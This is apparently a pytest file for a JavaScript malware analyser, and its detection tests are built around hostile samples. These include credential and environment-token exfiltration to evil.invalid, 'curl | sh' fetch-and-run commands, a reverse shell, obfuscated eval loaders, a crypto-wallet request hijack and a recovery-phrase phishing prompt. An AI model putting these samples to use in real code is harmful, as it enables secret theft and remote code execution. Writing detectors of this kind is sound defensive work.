"""JavaScript evaluated: modules, promises, callbacks, classes, and what obfuscators write."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import base64
import time

import pytest

from antivenom.analysis import dialects
from antivenom.analysis.dialects.javascript import operators, pure, reading, texts
from antivenom.analysis.value import UNKNOWN
from antivenom.languages import LOWERED
from tests.analysis.scripts import run_js

URL = "https://evil.invalid/c"
FILE_SENT = "secrets.file->net.send"
ENV_SENT = "secrets.env->net.send"
FETCH_RUN = "net.fetch->code.run"
DROPPED = "net.fetch->file.write->process.shell"


@pytest.mark.parametrize(
    ("text", "flow"),
    [
        ("""const fs=require('fs'), os=require('os'), https=require('node:https');
         const data = fs.readFileSync(os.homedir()+'/.aws/credentials','utf8');
         const req = https.request({hostname:'evil.invalid', method:'POST'}, res => {});
         req.write(JSON.stringify({data})); req.end();""", FILE_SENT),
        (f"""fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})""", ENV_SENT),
        (f"""(async () => {{ const e = {{...process.env}}; await fetch('{URL}', {{method: 'POST',
         body: JSON.stringify({{e}})}}) }})()""", ENV_SENT),
        (f"""const {{NPM_TOKEN: t}} = process.env; require('https').get('{URL}?' + t)""", ENV_SENT),
        (f"""require('https').get('{URL}', r => {{ let b = ''; r.on('data', c => b += c);
         r.on('end', () => eval(b)) }})""", FETCH_RUN),
        (f"""const axios = require('axios'); axios.get('{URL}').then(({{data}}) =>
         new Function('require', data)(require))""", FETCH_RUN),
        (f"""import axios from 'axios'; const r = await axios.get('{URL}'); eval(r.data)""",
         FETCH_RUN),
        (f"""const fs = require('fs'), cp = require('child_process'); fetch('{URL}')
         .then(r => r.arrayBuffer()).then(b => {{ fs.writeFileSync('/tmp/a.bin', Buffer.from(b));
         cp.exec('/tmp/a.bin') }})""", DROPPED),
        (f"""const {{exec}} = require('child_process'); const os = require('os');
         class A {{ constructor(u) {{ this.u = u }}
          async run() {{ await fetch(`${{this.u}}?d=${{os.hostname()}}`) }} }}
         new A('{URL}').run()""", "host.identify->net.send"),
        (f"""function A(u) {{ this.u = u }} A.prototype.go = function () {{
         require('http').get(this.u + '?' + process.env.GITHUB_TOKEN) }}; new A('{URL}').go()""",
         ENV_SENT),
        (f"""function f() {{ g.apply(null, arguments) }} function g(a, b) {{ fetch(a + b) }}
         f.call(this, '{URL}?', process.env.NPM_TOKEN)""", ENV_SENT),
        (f"""new Promise((resolve, reject) => resolve(process.env.NPM_TOKEN))
         .then(t => fetch('{URL}?' + t))""", ENV_SENT),
        (f"""const all = Object.keys(process.env).map(k => k + '=' + process.env[k]).join('&');
         fetch('{URL}', {{method: 'POST', body: all}})""", ENV_SENT),
        (f"""const x = new XMLHttpRequest(); x.open('POST', '{URL}');
         x.send(JSON.stringify({{k: process.env.NPM_TOKEN}}))""", ENV_SENT),
        ("""const dns = require('dns'), os = require('os');
         dns.lookup(os.hostname() + '.evil.invalid', () => {})""", "host.identify->net.lookup"),
        (f"""const util = require('util'); const run = util.promisify(require('child_process').exec);
         run('curl {URL} | sh')""", FETCH_RUN),
        (f"""require('child_process').spawn('sh', ['-c', 'curl {URL} | sh'], {{detached: true}})""",
         FETCH_RUN),
        (f"""const h = require('https'), f = require('fs'); const out = f.createWriteStream('/tmp/xyz');
         h.get('{URL}', r => {{ r.pipe(out); require('child_process').exec('/tmp/xyz') }})""",
         DROPPED),
        ("""const s = require('net').connect(4444, 'evil.invalid'); s.on('data', d =>
         require('child_process').exec(d.toString()))""", "net.connect->process.shell"),
    ],
)  # fmt: skip
def test_values_travel(text: str, flow: str) -> None:
    seen = run_js(text)
    assert flow in seen.flows()
    assert {f.activation for f in seen.of(flow)} == {"import"}


@pytest.mark.parametrize(
    "files",
    [
        {"index.js": "require('./lib/u').send(process.env.NPM_TOKEN)",
         "lib/u.js": f"exports.send = x => fetch('{URL}?' + x)"},
        {"index.js": "import {send} from './lib/u.mjs'; send(process.env.NPM_TOKEN)",
         "lib/u.mjs": f"export const send = x => fetch('{URL}?' + x)"},
        {"index.js": "import * as u from './lib'; u.default(process.env.NPM_TOKEN)",
         "lib/index.js": f"export default function (x) {{ fetch('{URL}?' + x) }}"},
        {"index.js": "const U = require('./u'); new U(process.env.NPM_TOKEN).go()",
         "u.js": f"module.exports = class {{ constructor(t) {{ this.t = t }} "
                 f"go() {{ fetch('{URL}?' + this.t) }} }}"},
        {"index.js": "export * from './a'", "a.js": "export {b} from './b'",
         "b.js": f"export const b = 1; fetch('{URL}?' + process.env.NPM_TOKEN)"},
        {"index.js": "import './a.js'", "a.ts": f"fetch(`{URL}?${{process.env.NPM_TOKEN as any}}`)"},
        {"index.js": "const c = require('./c.json'); fetch(c.url + process.env.NPM_TOKEN)",
         "c.json": f'{{"url": "{URL}?"}}'},
        {"index.js": "var e={7:(m,x,r)=>{r(8).s(process.env.NPM_TOKEN)},8:(m,x)=>{x.s=t=>"
                     f"fetch('{URL}?'+t)}}}},c={{}};function r(n){{var o=c[n];if(void 0!==o)return "
                     "o.exports;var t=c[n]={exports:{}};return e[n](t,t.exports,r),t.exports}r(7)"},
    ],
)  # fmt: skip
def test_values_travel_between_modules(files: dict[str, str]) -> None:
    assert ENV_SENT in run_js(files).flows()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


RUN = f"require('child_process').execSync('curl {URL} | sh')"


@pytest.mark.parametrize(
    "text",
    [
        f"eval(Buffer.from('{b64(RUN)}', 'base64').toString())",
        f"eval(atob('{b64(RUN)}'))",
        f"new Function('require', atob('{b64(RUN)}'))(require)",
        f"eval('{RUN.encode().hex()}'.match ? Buffer.from('{RUN.encode().hex()}', 'hex') + '' : '')",
        f"eval(String.fromCharCode({','.join(str(ord(c)) for c in RUN)}))",
        f"eval([{','.join(str(ord(c) + 3) for c in RUN)}].map(c => String.fromCharCode(c - 3)).join(''))",
        f"eval({RUN[::-1]!r}.split('').reverse().join(''))",
        f"setTimeout(unescape('{''.join(f'%{ord(c):02x}' for c in RUN)}'), 10)",
        f"(() => {{}}).constructor(decodeURIComponent('{''.join(f'%{ord(c):02x}' for c in RUN)}'))()",
        f"require('vm').runInThisContext(atob('{b64(RUN)}'))",
        f"global['ev' + 'al'](atob('{b64(RUN)}'))",
        f"let o = ''; for (let i = 0; i < {len(RUN)}; i++) o += String.fromCharCode("
        f"[{','.join(str(ord(c) ^ 7) for c in RUN)}][i] ^ 7); eval(o)",
    ],
)
def test_what_is_hidden_becomes_a_layer(text: str) -> None:
    seen = run_js(text)
    assert FETCH_RUN in seen.flows()
    assert RUN in seen.layers[0].excerpt


def test_a_decoder_in_another_function_is_run() -> None:
    plain = "child_process"
    coded = "".join(chr(ord(c) ^ ord("kbkc"[n % 4])) for n, c in enumerate(plain))
    seen = run_js(
        "function d(s, k) { return s.split('').map((c, i) => String.fromCharCode("
        "c.charCodeAt(0) ^ k.charCodeAt(i % k.length))).join('') }\n"
        f"require(d({coded!r}, 'kbkc')).exec('whoami')"
    )
    assert "process.shell" in seen.ids()
    assert seen.one("data.assemble").value == plain


def test_functions_nobody_calls_are_evaluated_as_if_somebody_did() -> None:
    seen = run_js(f"module.exports.f = function (x) {{ fetch('{URL}?' + process.env.NPM_TOKEN) }}")
    assert seen.one(ENV_SENT).activation == "call"


def test_hooks_of_the_browser_are_seen() -> None:
    seen = run_js(
        "const o = window.ethereum.request; window.ethereum.request = async function (a) {"
        "a.params[0].to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'; return o.call(this, a) }"
    )
    assert seen.one("tamper.runtime").value == "ethereum.request"
    assert seen.one("tamper.value").args == ("currency=eth",)


@pytest.mark.parametrize(
    "text",
    [
        "if (process.env.NODE_ENV !== 'production') { console.log(1) }",
        "module.exports = (a, b) => a + b",
        "const path = require('path'); exports.p = path.join(__dirname, 'x')",
        "x.exec(y); /a+/.exec(b); constructor(1)",
    ],
)
def test_ordinary_code_is_not_even_parsed(text: str) -> None:
    assert not reading.is_hot(text.encode())
    assert run_js(text).facts == ()


@pytest.mark.parametrize(
    ("op", "left", "right", "value"),
    [
        ("+", 1, "2", "12"), ("+", 1, 2, 3), ("+", [], {}, "[object Object]"), ("+", None, 1, None),
        ("-", "5", 2, 3), ("/", 7, 2, 3.5), ("/", 6, 2, 3), ("/", 1, 0, float("inf")), ("%", -7, 3, -1),
        ("<<", 1, 31, -(2**31)), (">>>", -1, 28, 15), ("^", 5, 1, 4), ("==", "1", 1, True),
        ("is", "1", 1, False), ("<", "b", "a", False), ("<", "10", 9, False), ("in", "a", {"a": 1}, True),
        ("**", 2, 10**9, UNKNOWN),
    ],
)  # fmt: skip
def test_operators(op: str, left: object, right: object, value: object) -> None:
    made = operators.binary(op, left, right)
    assert (
        made is value if value in (UNKNOWN,) else made == value or (made != made and value is None)
    )


@pytest.mark.parametrize(
    ("text", "name", "args", "value"),
    [
        ("abc", "charCodeAt", [1], 98), ("abc", "slice", [-2], "bc"), ("abc", "substr", [1, 1], "b"),
        ("abc", "substring", [2, 0], "ab"), ("a,b", "split", [","], ["a", "b"]),
        ("ab", "split", [""], ["a", "b"]), ("aXbX", "replace", ["X", ""], "abX"),
        ("aXbX", "replace", [("X", "g"), ""], "ab"), ("a1b2", "replace", [("[0-9]", "g"), ""], "ab"),
        ("ab", "replace", [("(a+)+$", "g"), ""], UNKNOWN), ("a", "repeat", [10**9], UNKNOWN),
        ("7", "padStart", [3, "0"], "007"), ("abc", "at", [-1], "c"), ("abc", "charAt", [9], ""),
    ],
)  # fmt: skip
def test_methods_of_texts(text: str, name: str, args: list[object], value: object) -> None:
    made = texts.of_text(text, name, args)
    assert made is value if value is UNKNOWN else made == value


@pytest.mark.parametrize(
    ("path", "args", "value"),
    [
        ("parseInt", ["12px"], 12), ("parseInt", ["0x1f"], 31), ("parseInt", ["z", 36], 35),
        ("String.fromCharCode", [97, 98], "ab"), ("unescape", ["%u0041%42"], "AB"),
        ("Buffer.from", ["YWI=", "base64"], b"ab"), ("Buffer.from", [[97, 98]], b"ab"),
        ("atob", ["YWI"], "ab"), ("Array.from", ["ab"], ["a", "b"]), ("Object.keys", [{"a": 1}], ["a"]),
        ("path.join", ["/a", "b", "c.js"], "/a/b/c.js"), ("JSON.parse", ['{"a":[1]}'], {"a": [1]}),
        ("Buffer.alloc", [10**9], UNKNOWN), ("Array", [10**9], UNKNOWN),
    ],
)  # fmt: skip
def test_pure_functions(path: str, args: list[object], value: object) -> None:
    made, _ = pure.call(path, args, {})
    assert made is value if value is UNKNOWN else made == value


def test_every_language_with_a_front_end_has_a_dialect() -> None:
    assert LOWERED == dialects.LANGUAGES


@pytest.mark.parametrize(
    "text",
    [
        "require('child_process');" + "f(" * 3000 + "1" + ")" * 3000,
        "const a=require('child_process');" + "a.b." * 4000 + "c",
        "eval(x);" + "function f(){" * 1500 + "eval(y)" + "}" * 1500,
        "eval(x);while(true){" + "x=x+x;" * 2000 + "}",
        "let x='a';for(let i=0;i<1e9;i++){x+=x}eval(x)",
        "let a=[];for(;;){a.push(a)}eval(a.join())",
        "eval(" + "+".join(["'abc'"] * 20000) + ")",
        "function f(n){return f(n-1)+f(n-2)}eval(f(60))",
        "eval(x);" + "".join(f"p.then(()=>{{f{n}()}});" for n in range(3000)),
        "const o={};" + "".join(f"o.a{n}=()=>fetch(o.a{n - 1});" for n in range(3000)),
    ],
)
def test_hostile_programs_end_soon(text: str) -> None:
    began = time.process_time()
    run_js(text)
    assert time.process_time() - began < 20


TWICE = """
function load(url) {
  return new Promise((resolve, reject) => {
    require('https').get(url, answer => {
      if (answer.statusCode > 300) { load(answer.headers.location).then(resolve); resolve(url); }
      let body = '';
      answer.on('data', part => { body += part; });
      answer.on('end', () => { resolve(body); resolve(load(body)); });
    });
  });
}
load('https://evil.invalid/c').then(text => eval(text));
"""


def test_a_promise_that_is_resolved_again_and_with_itself() -> None:
    """Once a value that was part of itself; whatever followed it was not evaluated."""
    seen = run_js(TWICE)
    assert not seen.exhausted
    assert FETCH_RUN in seen.flows()


def test_alternatives_inside_alternatives_are_compared_in_bounded_time() -> None:
    lines = ["let v = require('os').hostname(), w = process.env.HOME;"]
    for number in range(120):
        lines.append(f"let f{number} = v > {number} ? [w, v] : {{a: v, b: w}};")
        lines.append(f"v = w > {number} ? f{number} : v; w = v.length ? w : f{number}.a;")
    seen = run_js(
        "\n".join(lines) + f"\nfetch('{URL}', {{method: 'POST', body: process.env.NPM_TOKEN}});"
    )
    assert not seen.exhausted
    assert ENV_SENT in seen.flows()


_HIDDEN = base64.b64encode(
    f"fetch('{URL}',{{method:'POST',body:process.env.NPM_TOKEN}})".encode()
).decode()


@pytest.mark.parametrize(
    "run",
    [
        "eval(String.fromCharCode(...c))",
        "eval(String.fromCharCode.apply(String, [...c]))",
        "eval(c.reduce((s, n) => s + String.fromCharCode(n), ''))",
        "eval(c.map(n => String.fromCodePoint(n)).join``)",
        "eval(c.flatMap(n => [String.fromCharCode(n)]).join(''))",
        "eval(new TextDecoder().decode(Uint8Array.from(c)))",
        "eval(Buffer.from(c).toString())",
        "eval(unescape(c.map(n => '%' + n.toString(16).padStart(2, '0')).join('')))",
        "const [first, ...rest] = t; eval(first + rest.join(''))",
        "eval([...Array(c.length).keys()].map(i => String.fromCharCode(c[i])).join(''))",
        "eval(Array.from({length: c.length}, (_, i) => String.fromCharCode(c[i])).join(''))",
        "new (require('worker_threads').Worker)(t, {eval: true})",
        "require('module').prototype._compile.call(module, t, 'x')",
        "import('data:text/javascript,' + t)",
        "import('data:text/javascript;base64,' + a)",
        "const s = document.createElement('script'); s.textContent = t; document.head.append(s)",
        "new Worker(URL.createObjectURL(new Blob([t])))",
        "const F = Object.getPrototypeOf(async function () {}).constructor; new F(t)()",
    ],
)
def test_texts_put_together_and_run_in_other_ways(run: str) -> None:
    seen = run_js(
        f"const a = '{_HIDDEN}', t = atob(a), c = [...t].map(x => x.charCodeAt(0)); {run};"
    )
    assert ENV_SENT in seen.flows()


@pytest.mark.parametrize(
    "load",
    [
        "const s = document.createElement('script'); s.src = '{}'; document.head.append(s);",
        "const s = document.createElement(['scr', 'ipt'].join('')); s.setAttribute('src', '{}');",
        "document.write('<script async src=\"{}\"></' + 'script>');",
        "import('{}').then(m => m.default());",
    ],
)
def test_a_script_of_somebody_else_is_loaded(load: str) -> None:
    fact = run_js(load.replace("{}", URL)).one("net.fetch")
    assert (fact.value, fact.args) == (URL, ("form=script",))


def test_what_a_person_is_asked_decides() -> None:
    ask = (
        "require('readline').createInterface({input: process.stdin}).question('%s', "
        f"k => fetch('{URL}', {{method: 'POST', body: k}}));"
    )
    assert "secrets.given->net.send" in run_js(ask % "Your recovery phrase: ").flows()
    assert not run_js(ask % "Name of the project: ").flows()
